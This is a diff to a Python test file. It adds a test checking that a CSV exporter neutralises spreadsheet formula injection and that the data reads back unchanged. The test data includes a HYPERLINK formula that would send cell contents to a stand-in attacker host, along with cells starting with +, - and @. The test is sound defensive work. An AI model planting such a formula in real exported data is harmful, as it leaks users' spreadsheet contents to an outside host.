@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import warnings
 
@@ -419,3 +420,14 @@ def test_a_csv_separated_by_semicolons_or_tabs_reads_the_same(tmp_path, text):
     p.write_text(text, encoding="utf-8")
     (item,) = corr.load(p).items
     assert item.entities == ("Borvik", "Borvik Mills") and item.note == "same; firm"
+
+
+def test_csv_written_by_kgraph_runs_no_formula_and_reads_back_the_same():
+    items = [{"action": "rename", "entity": '=HYPERLINK("http://evil.example/?"&A1,"open")', "label": "'=1+1"},
+             {"action": "merge", "entities": ["@Tova Brenn", "-Ilse", "Marr"]},
+             {"action": "block", "entity": "+Varnholm"}, {"action": "block", "entity": "Plain Name"}]
+    text = corr.to_csv(items)
+    for row in text.splitlines()[1:]:
+        for cell in next(csv.reader([row])):
+            assert cell[:1] not in ("=", "+", "-", "@"), cell
+    assert [c.as_item() for c in corr.parse_csv(text).items] == items
